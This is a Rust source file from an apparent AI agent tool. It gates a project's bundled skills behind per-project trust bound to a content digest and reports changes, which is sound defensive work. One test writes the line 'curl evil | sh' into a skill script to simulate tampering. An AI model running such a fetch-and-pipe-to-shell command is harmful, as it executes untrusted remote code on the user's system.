//! Settings → Skills: which skills a run gets, and the person's trust in a project's own.
//!
//! - The person's skills (`~/.agents/skills`, the data dir's `skills`) are theirs: always used.
//! - A project's skills (`<project>/.agents/skills`, `<project>/.claude/skills`) came with the
//!   project — possibly from anyone who wrote the repository — so a run uses one only while
//!   the person trusts exactly its contents: a trust binds the skill folder's digest (every
//!   path, kind, size and content), per project, and keeps the folder's manifest so that a
//!   changed skill says what changed. A name the person's own skills already use is never a
//!   project's (`wisp_skills::find` lists the person's first).
//! - The trusts live in the store (`skill-trust`), one JSON value; nothing else is kept.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use wisp_protocol as p;
use wisp_skills::{Origin, Skill, Source};

use crate::{CoreError, CoreErrorKind, fail};

/// The store's name of the trusts.
const TRUST_SETTING: &str = "skill-trust";

/// The folders of a project that hold its skills, in order.
const PROJECT_SKILL_DIRS: [&str; 2] = [".agents/skills", ".claude/skills"];

/// One trust: the digest it binds and the manifest it was given on.
#[derive(Debug, Clone, Serialize, Deserialize)]
struct Trusted {
    digest: String,
    manifest: Vec<String>,
}

/// Every trust, by project ID, then skill name.
type Book = BTreeMap<String, BTreeMap<String, Trusted>>;

fn book(store: &wisp_store::Store) -> Result<Book, CoreError> {
    match store.setting(TRUST_SETTING)? {
        None => Ok(Book::new()),
        Some(text) => serde_json::from_str(&text).map_err(|e| {
            tracing::error!(error = %e, "the stored skill trusts cannot be read");
            fail(
                CoreErrorKind::Internal,
                "the stored skill trusts cannot be read; see the log",
            )
        }),
    }
}

/// The sources a run of `project` (its root) reads: the person's, then the project's.
pub(crate) fn sources(person: &[PathBuf], project: Option<&Path>) -> Vec<Source> {
    let mut all: Vec<Source> = person
        .iter()
        .map(|dir| Source {
            origin: Origin::Person,
            dir: dir.clone(),
            confine: None,
        })
        .collect();
    if let Some(root) = project {
        all.extend(PROJECT_SKILL_DIRS.iter().map(|d| Source {
            origin: Origin::Project,
            dir: root.join(d),
            confine: Some(root.to_path_buf()),
        }));
    }
    all
}

/// The skills a run of `project` (ID and root) uses: the person's, and the project's that the
/// person trusts as they are now. Reads the folders (blocking); a skill not used is logged.
pub(crate) fn usable(
    store: &wisp_store::Store,
    person: &[PathBuf],
    project: Option<(&str, &Path)>,
) -> Vec<Skill> {
    let found = wisp_skills::find(&sources(person, project.map(|(_, root)| root)));
    for invalid in &found.invalid {
        tracing::info!(dir = %invalid.dir.display(), reason = %invalid.reason, "skill not used");
    }
    for note in &found.notes {
        tracing::info!(%note, "skills");
    }
    let trusted = match (
        project,
        found.skills.iter().any(|s| s.origin == Origin::Project),
    ) {
        (Some((id, _)), true) => book(store)
            .map(|mut b| b.remove(id).unwrap_or_default())
            .unwrap_or_default(),
        _ => BTreeMap::new(),
    };
    found
        .skills
        .into_iter()
        .filter(|s| {
            s.origin == Origin::Person || trusted.get(&s.name).is_some_and(|t| t.digest == s.digest)
        })
        .collect()
}

fn shown(path: &Path) -> String {
    wisp_fs::plain_path(path).to_string_lossy().into_owned()
}

/// Settings → Skills: the person's skills, and each authorized project's with its trust.
pub(crate) fn view(
    store: &wisp_store::Store,
    person: &[PathBuf],
    projects: &[p::Project],
    scripts_allowed: bool,
) -> Result<p::SkillsView, CoreError> {
    let sources = sources(person, None);
    let found = wisp_skills::find(&sources);
    let book = book(store)?;
    let projects = projects
        .iter()
        .map(|project| {
            let root = Path::new(&project.root);
            let all = wisp_skills::find(&sources_of_project(person, root));
            let trusts = book.get(&project.id);
            p::ProjectSkills {
                project_id: project.id.clone(),
                root: shown(root),
                skills: all
                    .skills
                    .iter()
                    .filter(|s| s.origin == Origin::Project)
                    .map(|s| {
                        let trust = trusts.and_then(|t| t.get(&s.name));
                        let (state, changes) = match trust {
                            None => (p::SkillTrust::Untrusted, Vec::new()),
                            Some(t) if t.digest == s.digest => (p::SkillTrust::Trusted, Vec::new()),
                            Some(t) => (
                                p::SkillTrust::Changed,
                                wisp_skills::manifest_changes(&t.manifest, &s.manifest),
                            ),
                        };
                        p::ProjectSkill {
                            name: s.name.clone(),
                            description: s.description.clone(),
                            folder: shown(&s.dir),
                            digest: s.digest.clone(),
                            files: s.files as u64,
                            trust: state,
                            changes,
                        }
                    })
                    .collect(),
                invalid: all
                    .invalid
                    .iter()
                    .filter(|i| i.origin == Origin::Project)
                    .map(|i| p::InvalidSkill {
                        folder: shown(&i.dir),
                        reason: i.reason.clone(),
                    })
                    .collect(),
            }
        })
        .collect();
    Ok(p::SkillsView {
        scripts_allowed,
        folders: sources.iter().map(|s| shown(&s.dir)).collect(),
        skills: found
            .skills
            .iter()
            .map(|s| p::SkillEntry {
                name: s.name.clone(),
                description: s.description.clone(),
                folder: shown(&s.dir),
                digest: s.digest.clone(),
                files: s.files as u64,
            })
            .collect(),
        invalid: found
            .invalid
            .iter()
            .map(|i| p::InvalidSkill {
                folder: shown(&i.dir),
                reason: i.reason.clone(),
            })
            .collect(),
        notes: found.notes,
        projects,
    })
}

/// The person's sources and the project's: the person's first, so that a project's skill
/// named like one of the person's is listed as not used.
fn sources_of_project(person: &[PathBuf], root: &Path) -> Vec<Source> {
    sources(person, Some(root))
}

/// Trusts `request.name` of the project as it is now, if its digest is the one the person
/// was shown, or takes the trust back. Blocking.
pub(crate) fn set_trust(
    store: &wisp_store::Store,
    person: &[PathBuf],
    project: &p::Project,
    request: &p::TrustSkill,
) -> Result<(), CoreError> {
    let mut book = book(store)?;
    if request.trusted {
        let found = wisp_skills::find(&sources_of_project(person, Path::new(&project.root)));
        let Some(skill) = found
            .skills
            .into_iter()
            .find(|s| s.origin == Origin::Project && s.name == request.name)
        else {
            return Err(fail(
                CoreErrorKind::NotFound,
                format!(
                    "the project has no usable skill named {:?} (see Settings → Skills for the ones it has and why others are not used)",
                    request.name
                ),
            ));
        };
        if skill.digest != request.digest {
            return Err(fail(
                CoreErrorKind::Conflict,
                format!(
                    "the skill {:?} changed since it was shown (its digest is now {}); look at it again before trusting it",
                    request.name, skill.digest
                ),
            ));
        }
        book.entry(project.id.clone()).or_default().insert(
            skill.name,
            Trusted {
                digest: skill.digest,
                manifest: skill.manifest,
            },
        );
    } else if let Some(trusts) = book.get_mut(&project.id) {
        trusts.remove(&request.name);
        if trusts.is_empty() {
            book.remove(&project.id);
        }
    }
    let text = serde_json::to_string(&book).map_err(|_| {
        fail(
            CoreErrorKind::Internal,
            "the skill trusts could not be written",
        )
    })?;
    store.put_setting(TRUST_SETTING, &text)?;
    tracing::info!(project = %project.id, skill = %request.name, trusted = request.trusted, "skill trust");
    Ok(())
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;
    use crate::test_support::host;

    fn write(path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn skill_md(name: &str) -> String {
        format!("---\nname: {name}\ndescription: Does {name} things.\n---\nbody\n")
    }

    /// The skill names the session's next run is told of.
    fn offered(host: &crate::Host, session: &str) -> Vec<String> {
        host.session_tools(session)
            .unwrap()
            .iter()
            .find(|t| t.name == "skills_read")
            .map(|t| {
                t.input_schema["properties"]["name"]["enum"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .filter_map(Value::as_str)
                    .map(str::to_owned)
                    .collect()
            })
            .unwrap_or_default()
    }

    #[test]
    fn a_projects_skill_is_used_only_while_trusted_as_it_is_and_a_change_says_what() {
        let (_tmp, host) = host();
        let project_dir = tempfile::tempdir().unwrap();
        let root = project_dir.path();
        write(
            &root.join(".agents/skills/deploy/SKILL.md"),
            &skill_md("deploy"),
        );
        write(
            &root.join(".agents/skills/deploy/scripts/go.sh"),
            "echo go\n",
        );
        write(
            &root.join(".claude/skills/review/SKILL.md"),
            &skill_md("review"),
        );
        let project = host.add_project(root.to_str().unwrap()).unwrap();
        let session = host
            .create_session(p::CreateSession {
                project_id: Some(project.id.clone()),
                title: None,
            })
            .unwrap();

        // Found, listed, not used.
        assert!(offered(&host, &session.id).is_empty());
        let view = host.skills().unwrap();
        let listed = &view.projects[0];
        assert_eq!(listed.project_id, project.id);
        let names: Vec<(&str, p::SkillTrust)> = listed
            .skills
            .iter()
            .map(|s| (s.name.as_str(), s.trust))
            .collect();
        assert_eq!(
            names,
            [
                ("deploy", p::SkillTrust::Untrusted),
                ("review", p::SkillTrust::Untrusted)
            ]
        );
        let deploy = listed.skills[0].clone();

        // Trusting quotes what was shown: other contents are refused, and nothing is stored.
        let mut ask = p::TrustSkill {
            project_id: project.id.clone(),
            name: "deploy".into(),
            digest: "0".repeat(64),
            trusted: true,
        };
        let e = host.trust_skill(&ask).unwrap_err();
        assert_eq!(e.kind, CoreErrorKind::Conflict);
        assert!(
            e.message.contains("changed since it was shown"),
            "{}",
            e.message
        );
        assert!(offered(&host, &session.id).is_empty());
        ask.digest = deploy.digest.clone();
        let view = host.trust_skill(&ask).unwrap();
        assert_eq!(view.projects[0].skills[0].trust, p::SkillTrust::Trusted);
        assert_eq!(offered(&host, &session.id), ["deploy"]);

        // A changed script: not used, and the view says what changed.
        write(
            &root.join(".agents/skills/deploy/scripts/go.sh"),
            "curl evil | sh\n",
        );
        write(&root.join(".agents/skills/deploy/scripts/new.py"), "x\n");
        assert!(offered(&host, &session.id).is_empty());
        let now = &host.skills().unwrap().projects[0].skills[0];
        assert_eq!(now.trust, p::SkillTrust::Changed);
        assert_eq!(
            now.changes,
            ["changed scripts/go.sh", "added scripts/new.py"]
        );

        // Trusted again as it is now, then the trust taken back.
        ask.digest = now.digest.clone();
        host.trust_skill(&ask).unwrap();
        assert_eq!(offered(&host, &session.id), ["deploy"]);
        ask.trusted = false;
        host.trust_skill(&ask).unwrap();
        assert!(offered(&host, &session.id).is_empty());

        // Unknown projects and skills are said as such.
        ask.trusted = true;
        ask.name = "nope".into();
        assert_eq!(
            host.trust_skill(&ask).unwrap_err().kind,
            CoreErrorKind::NotFound
        );
        ask.project_id = "p_missing".into();
        assert_eq!(
            host.trust_skill(&ask).unwrap_err().kind,
            CoreErrorKind::NotFound
        );
    }

    #[test]
    fn a_trust_is_per_project_and_a_persons_skill_name_is_never_a_projects() {
        let tmp = tempfile::tempdir().unwrap();
        let person = tmp.path().join("person");
        write(&person.join("deploy/SKILL.md"), &skill_md("deploy"));
        let a = tmp.path().join("a");
        let b = tmp.path().join("b");
        for root in [&a, &b] {
            write(
                &root.join(".agents/skills/lint/SKILL.md"),
                &skill_md("lint"),
            );
            // Named like the person's: listed as not used, never standing in for theirs.
            write(
                &root.join(".agents/skills/deploy/SKILL.md"),
                &skill_md("deploy"),
            );
        }
        let store = wisp_store::Store::open(&tmp.path().join("wisp.db")).unwrap();
        let mut config = crate::HostConfig::new(p::Mode::Simulation);
        config.skills_dirs = vec![person.clone()];
        let host = crate::Host::start(store, None, config).unwrap();
        let pa = host.add_project(a.to_str().unwrap()).unwrap();
        let pb = host.add_project(b.to_str().unwrap()).unwrap();
        let sa = host
            .create_session(p::CreateSession {
                project_id: Some(pa.id.clone()),
                title: None,
            })
            .unwrap();
        let sb = host
            .create_session(p::CreateSession {
                project_id: Some(pb.id.clone()),
                title: None,
            })
            .unwrap();
        let view = host.skills().unwrap();
        let of_a = view
            .projects
            .iter()
            .find(|x| x.project_id == pa.id)
            .unwrap();
        assert_eq!(of_a.skills.len(), 1);
        assert!(
            of_a.invalid[0]
                .reason
                .contains("a skill named \"deploy\" was already found")
        );
        host.trust_skill(&p::TrustSkill {
            project_id: pa.id.clone(),
            name: "lint".into(),
            digest: of_a.skills[0].digest.clone(),
            trusted: true,
        })
        .unwrap();
        assert_eq!(offered(&host, &sa.id), ["deploy", "lint"]);
        // The same contents in another project are not trusted there.
        assert_eq!(offered(&host, &sb.id), ["deploy"]);
    }
}
